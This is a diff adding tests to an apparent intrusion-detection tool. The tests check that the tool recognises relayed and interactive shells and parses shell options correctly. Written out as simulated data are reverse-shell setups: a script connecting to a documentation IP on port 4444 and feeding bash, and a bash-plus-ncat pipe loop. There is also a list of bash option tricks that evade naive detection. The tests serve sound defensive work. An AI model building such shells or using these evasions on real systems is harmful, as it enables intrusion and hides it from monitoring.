@@ -185,3 +185,61 @@ def test_pty_shell_gone_before_the_probe(tmp_path: Path) -> None:
         found += engine.evaluate(ev, ctx)
     got = of(found, "pty_socket_shell")
     assert [(f.pid, f.action) for f in got] == [(200, "kill-tree")]
+
+
+def test_relayed_shell_reads_options_by_the_shells_table(tmp_path: Path) -> None:
+    """An option's argument is no script (s15-svc): ``bash -o posix``, ``bash --rcfile f``,
+    ``sh -O extglob``, ``bash --init-file f -i``, ``bash --norc`` (a long option with a
+    ``c`` in it is no -c) fed by a connected relay are all relayed shells; ``bash -o
+    posix script.sh`` and ``bash -o posix -c cmd`` still run a program (the old parser
+    took the option's value as the script and let the first five go)."""
+    r = Rec()
+    evasive = [["bash", "-o", "posix"], ["bash", "--rcfile", "/tmp/f"],
+               ["/bin/bash", "-O", "extglob"], ["bash", "--init-file", "/tmp/f", "-i"],
+               ["bash", "--norc"], ["bash", "+o", "history"], ["bash", "-xo", "posix"]]
+    for n, argv in enumerate(evasive):
+        pid = 200 + 10 * n
+        r.exec(pid, 100, "/usr/bin/python3.11", ["python3", "r.py"]).connect(pid, "203.0.113.7", 4444)
+        r.exec(pid + 1, pid, "/usr/bin/bash", argv, stdin=f"pipe:[{pid}]",
+               stdout=f"pipe:[{pid + 1}]")
+    for n, argv in enumerate([["bash", "-o", "posix", "s.sh"], ["bash", "-o", "posix", "-c", "ls"]]):
+        pid = 400 + 10 * n
+        r.exec(pid, 100, "/usr/bin/python3.11", ["python3", "r.py"]).connect(pid, "203.0.113.7", 4444)
+        r.exec(pid + 1, pid, "/usr/bin/bash", argv, stdin=f"pipe:[{pid}]",
+               stdout=f"pipe:[{pid + 1}]")
+    got = of(r.run(tmp_path), "relayed_shell")
+    assert sorted(f.pid for f in got) == [201 + 10 * n for n in range(len(evasive))]
+    assert {f.action for f in got} == {"kill"}
+
+
+def test_interactive_through_an_option_value_is_killed(tmp_path: Path) -> None:
+    """``bash -o posix -i < fifo | ncat ...``: the old reading stopped at ``posix``
+    (an operand to it) and called the shell non-interactive: alerted, not killed."""
+    r = Rec().exec(200, 100, "/usr/bin/bash", ["bash", "-o", "posix", "-i"], stdin="pipe:[90]",
+                   stdout="pipe:[91]")
+    r.exec(201, 100, "/usr/bin/ncat", ["ncat", "203.0.113.7", "443"], stdin="pipe:[91]",
+           stdout="pipe:[90]").connect(201, "203.0.113.7", 443)
+    got = of(r.run(tmp_path), "relayed_shell")
+    assert [(f.pid, f.severity, f.action) for f in got] == [(200, "critical", "kill")]
+
+
+def test_shell_option_tables() -> None:
+    from bastion.detect.behavior.shellargs import parse_shell_argv as p
+    assert p("bash", ["bash", "-o", "posix"]).stdin
+    assert p("bash", ["bash", "--init-file", "f", "-i"]).interactive
+    assert p("bash", ["bash", "-o", "posix", "x.sh"]).script == "x.sh"
+    assert p("bash", ["bash", "-oO", "posix", "extglob", "x.sh"]).script == "x.sh"
+    assert p("bash", ["bash", "-s", "a", "b"]).stdin
+    assert p("bash", ["bash", "--", "x.sh"]).script == "x.sh"
+    assert p("bash", ["bash", "-", "x.sh"]).script == "x.sh"
+    assert p("bash", ["bash", "-ec", "ls"]).command
+    assert not p("bash", ["bash", "--norc"]).command
+    assert p("dash", ["sh", "-o", "errexit", "run.sh"]).script == "run.sh"
+    assert p("zsh", ["zsh", "-onoclobber", "run.zsh"]).script == "run.zsh"
+    assert p("zsh", ["zsh", "-o", "noclobber"]).stdin
+    assert p("fish", ["fish", "-C", "set x 1"]).stdin
+    assert p("fish", ["fish", "-c", "echo hi"]).command
+    assert p("fish", ["fish", "--command=echo hi"]).command
+    assert p("busybox", ["busybox", "sh", "-o", "pipefail"]).stdin
+    assert p("busybox", ["busybox", "sh", "run.sh"]).script == "run.sh"
+    assert p("mksh", ["mksh", "-T", "/dev/tty2", "-i"]).interactive
